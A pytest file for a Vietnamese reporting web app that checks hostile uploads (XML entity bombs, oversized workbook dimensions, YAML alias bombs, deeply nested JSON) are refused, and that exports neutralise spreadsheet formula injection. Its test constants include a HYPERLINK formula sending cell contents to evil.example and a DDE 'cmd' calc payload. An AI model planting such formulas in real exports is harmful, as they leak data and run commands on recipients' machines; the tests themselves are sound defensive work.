"""Issue 13 through the routes: hostile uploads get a clear message and store nothing, every export
keeps user text as text, and the officer's workbook round trip is lossless on every shipped framework."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from werkzeug.datastructures import FileStorage

from campaign.extensions import db
from campaign.models import AuditLog, Framework, FrameworkVersion, MapLayer
from campaign.services.setup import framework_io
from campaign.services.setup.framework_cache import parsed
from campaign.services.submissions import values_xlsx
from campaign.services.submissions.entries import save_entry_values, stored_posted
from tests.conftest import Client
from tests.factories import small_framework
from tests.files_helpers import BILLION_LAUGHS, alias_bomb, cell, deep_json, mutate_zip_member, mutations, row
from tests.files_helpers import values_xlsx as raw_xlsx
from tests.public_helpers import publish
from tests.unit_helpers import World, open_entry, save

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&B2&C2,"Xem minh chứng")'
CALC = "=cmd|' /C calc'!A0"


@pytest.fixture
def world(factory):
    return World(factory)


def _upload(client, url, data: bytes, page: str):
    return client.submit(url, {"workbook": (io.BytesIO(data), "gia-tri.xlsx")}, page=page,
                         content_type="multipart/form-data")


def _stored(entry_id):
    from tests.app.test_unit_entry import _values

    db.session.expire_all()
    return _values(entry_id)


# --------------------------------------------------------------------------- 13.3 / 13.9 uploads

@pytest.mark.parametrize("payload, message", [
    (raw_xlsx(row(2, ("W001", "", "A.4", "", "", "10", "5", "", "")) + f'<row r="1048576">{cell("A1048576", "x")}</row>',
              dimension="A1:XFD1048576"), "Bảng tính khai báo 1.048.576 dòng"),
    (raw_xlsx("".join(f'<row r="{r}">{cell(f"XFD{r}", "x")}</row>' for r in range(2, 150_001))), "quá lớn khi giải nén"),
    (raw_xlsx(row(2, ("W001", "", "A.4", "", "", "10", "&lol9;", "", "")), prolog=BILLION_LAUGHS),
     "Không đọc được tệp .xlsx"),
], ids=["dimension-bomb", "150k-rows-xfd", "billion-laughs"])
def test_officer_hostile_workbook_is_refused_with_a_message_and_nothing_saved(client, world, payload, message):
    client.login("canbo")
    entry_id = open_entry(client, world)
    resp = _upload(client, f"/unit/entries/{entry_id}/xlsx", payload, f"/unit/entries/{entry_id}")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 400
    assert message in html
    assert _stored(entry_id) == {}


def test_admin_import_of_a_bomb_is_refused_and_nothing_saved(app, world):
    admin = Client(app.test_client())
    admin.login("hoidong")
    rows = row(2, ("W002", "", "A.4", "", "", "10", "5", "", "")) + f'<row r="900000">{cell("A900000", "x")}</row>'
    payload = raw_xlsx(rows, dimension="A1:XFD900000")
    resp = _upload(admin, f"/admin/reporting/{world.campaign.id}/import", payload, f"/admin/reporting/{world.campaign.id}")
    assert resp.status_code == 400 and "900.000 dòng" in resp.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog)
                             .where(AuditLog.action == "values.import_xlsx")) == 0


# --------------------------------------------------------------------------- 13.4 exports and the round trip

def test_formula_text_typed_by_an_officer_stays_text_in_both_workbooks(app, client, world):
    client.login("canbo")
    entry_id = open_entry(client, world)
    save(client, entry_id, {"A.2": "5"}, explanations={"A.1": CALC})
    db.session.expire_all()
    resp = client.get(f"/unit/entries/{entry_id}/xlsx")
    ws = load_workbook(io.BytesIO(resp.data))["Giá trị"]
    a1 = next(r for r in ws.iter_rows(min_row=2) if r[2].value == "A.1")
    assert (a1[8].value, a1[8].data_type) == (CALC, "s")
    admin = Client(app.test_client())
    admin.login("hoidong")
    ws = load_workbook(io.BytesIO(admin.get(f"/admin/reporting/{world.campaign.id}/template.xlsx").data))["Giá trị"]
    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert CALC in [c.value for c in cells]


def _value_for(node, i: int) -> dict:
    kind = node.value_type
    raw = {"number": "1.234,5", "percentage": "87,5", "count": "12", "yes_no": "yes" if i % 2 else "no",
           "date": "2019-05-01", "text": HYPERLINK}.get(kind or "", "")
    if kind == "choice" or (kind is None and node.rule is not None and node.rule.kind == "judged"):
        raw = (node.choices[0].code if node.choices else (node.rule.levels[0].code if node.rule.levels else ""))
    explanation = [CALC, "dòng 1\r\ndòng 2", "+ghi chú", "@người lập", "", "-"][i % 6]
    na = bool(node.na_allowed and i % 5 == 4 and kind != "text")
    return {"raw": "" if na else raw, "na": na, "explanation": explanation}


@pytest.mark.parametrize("code", [p.stem for p in sorted(framework_io.TEMPLATE_DIR.glob("*.yaml"))])
def test_officer_workbook_round_trip_is_lossless_on_every_shipped_framework(app, factory, code):
    unit = factory.unit("ward", code="P001", name="=Phường \"Một\"")
    officer = factory.user("officer", unit=unit)
    campaign = factory.campaign(framework_io.template_doc(code), units=[unit])
    entry = factory.entry(campaign, unit)
    db.session.commit()
    indicators = parsed(campaign.framework_version_id).indicators()
    with app.test_request_context():
        save_entry_values(entry, officer, {n.code: _value_for(n, i) for i, n in enumerate(indicators)}, None)
        before = stored_posted(entry)
        assert HYPERLINK in {v["raw"] for v in before.values()} or code == "ntm-2016"  # NTM has no text indicator
        assert CALC in {v["explanation"] for v in before.values()}
        data, _name = values_xlsx.entry_workbook(entry.id, officer)
        report = values_xlsx.import_for_entry(entry.id, officer, FileStorage(io.BytesIO(data), filename="gia-tri.xlsx"))
        rows = values_xlsx.sheet_nodes(parsed(campaign.framework_version_id))  # indicators + criteria that may be N/A
        assert (report.accepted, report.refused, report.unchanged) == (0, 0, len(rows))
        db.session.expire_all()
        assert stored_posted(entry) == before


def test_results_export_keeps_unit_names_as_text(client, factory):
    names = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "Quận Ba Đình"]
    units = [factory.unit(code=f"00{i}", name=n) for i, n in enumerate(names, start=1)]
    camp = factory.campaign(units=units)
    run = publish(camp, [(u, 90 - 10 * i, i + 1, {"I": 50}) for i, u in enumerate(units)])
    admin = factory.user("admin")
    client.login(admin.username)
    text = client.get(f"/admin/results/{camp.id}/export?format=csv&run={run.id}").get_data().decode("utf-8-sig")
    body = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[5] for r in body] == ["'" + n for n in names[:4]] + ["Quận Ba Đình"]
    ws = load_workbook(io.BytesIO(client.get(f"/admin/results/{camp.id}/export?format=xlsx&run={run.id}").data)).active
    col = [ws.cell(row=r, column=6) for r in range(2, 7)]
    assert [c.value for c in col] == names and {c.data_type for c in col} == {"s"}


def test_reporting_csv_escapes_unit_names(client, factory):
    unit = factory.unit("ward", code="P009", name="=1+2")
    camp = factory.campaign(units=[unit])
    admin = factory.user("admin")
    client.login(admin.username)
    text = client.get(f"/admin/reporting/{camp.id}/export.csv").get_data().decode("utf-8-sig")
    [line] = [r for r in csv.reader(io.StringIO(text)) if "P009" in r]
    assert line[2] == "'=1+2"


def test_blank_scoring_table_keeps_a_formula_looking_name_as_text(app):
    doc = small_framework("fw-eq")
    doc["groups"][0]["name"] = {"vi": "=1+1 nhóm", "en": "=1+1 group"}
    ws = load_workbook(io.BytesIO(framework_io.blank_scoring_table(doc))).active
    cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and c.value.startswith("=1+1")]
    assert cells and {c.data_type for c in cells} == {"s"}


# --------------------------------------------------------------------------- 13.7 documents

@pytest.mark.parametrize("name, content, message", [
    ("bom.yaml", alias_bomb(), "bí danh"),
    ("sau.json", deep_json(50_000), "quá sâu"),
    ("sau.yaml", "groups: " + "[" * 3000 + "]" * 3000, "quá sâu"),
], ids=["alias-bomb", "deep-json", "deep-yaml"])
def test_hostile_framework_file_is_refused_and_nothing_stored(client, factory, name, content, message):
    admin = factory.user("admin")
    db.session.commit()
    client.login(admin.username)
    resp = client.submit("/admin/frameworks/import", {"file": (io.BytesIO(content.encode()), name)},
                         page="/admin/frameworks", content_type="multipart/form-data", follow_redirects=True)
    assert resp.status_code == 200 and message in resp.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Framework)) == 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(FrameworkVersion)) == 0


def test_deep_geojson_is_refused_with_a_message(client, factory):
    admin = factory.user("admin")
    db.session.commit()
    client.login(admin.username)
    payload = '{"type": "FeatureCollection", "features": ' + deep_json(100_000) + "}"
    resp = client.submit("/admin/map", {"name": "Ranh giới", "geojson": (io.BytesIO(payload.encode()), "a.geojson")},
                         content_type="multipart/form-data")
    assert resp.status_code == 400 and "quá sâu" in resp.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(MapLayer)) == 0
    nan = io.BytesIO(json.dumps({"a": float("nan")}).encode())
    resp = client.submit("/admin/map", {"name": "x", "geojson": (nan, "a.geojson")}, content_type="multipart/form-data")
    assert resp.status_code == 400 and "JSON" in resp.get_data(as_text=True)


# --------------------------------------------------------------------------- fuzzing through the route

@st.composite
def _mutated_workbooks(draw):
    seed = raw_xlsx(row(2, ("W001", "", "A.4", "", "", "10", "5", "", "")), dimension="A1:I2")
    return mutate_zip_member(draw, st, seed) if draw(st.booleans()) else mutations(draw, st, seed)


@settings(max_examples=15, deadline=timedelta(seconds=10), derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(blob=_mutated_workbooks())
def test_fuzzed_workbooks_never_500_and_a_refusal_stores_nothing(client, world, blob):
    client.login("canbo")
    entry_id = open_entry(client, world)
    before = {c: (v.raw, v.explanation) for c, v in _stored(entry_id).items()}
    resp = _upload(client, f"/unit/entries/{entry_id}/xlsx", blob, f"/unit/entries/{entry_id}")
    assert resp.status_code in (200, 400)
    if resp.status_code == 400:
        assert "Kết quả nhập Excel" in resp.get_data(as_text=True)
        assert {c: (v.raw, v.explanation) for c, v in _stored(entry_id).items()} == before


def test_template_validation_lists_cover_exactly_their_cells(app, world):
    """Validations are attached in one go (per-cell add() was quadratic); each still covers its cells."""
    admin = Client(app.test_client())
    admin.login("hoidong")
    ws = load_workbook(io.BytesIO(admin.get(f"/admin/reporting/{world.campaign.id}/template.xlsx").data))["Giá trị"]
    rows = {(r[0].value, r[2].value): r[0].row for r in ws.iter_rows(min_row=2)}
    by_formula = {dv.formula1: {str(c) for c in dv.sqref.ranges} for dv in ws.data_validations.dataValidation}
    yes_no = {f"G{rows[(u, 'A.5')]}" for u in ("W001", "W002")}
    assert by_formula['"Có,Không"'] == yes_no
    assert by_formula['"good,fair"'] == {f"G{rows[(u, 'B.1')]}" for u in ("W001", "W002")}


def test_refusal_reads_in_english_with_english_numbers(client, world):
    client.login("canbo")
    entry_id = open_entry(client, world)
    client.post("/lang/en", data={"next": "/"})
    payload = raw_xlsx(f'<row r="1048576">{cell("A1048576", "x")}</row>', dimension="A1:XFD1048576")
    html = _upload(client, f"/unit/entries/{entry_id}/xlsx", payload, f"/unit/entries/{entry_id}").get_data(as_text=True)
    assert "The sheet declares 1,048,576 rows, more than the maximum of 1,007; nothing was imported." in html
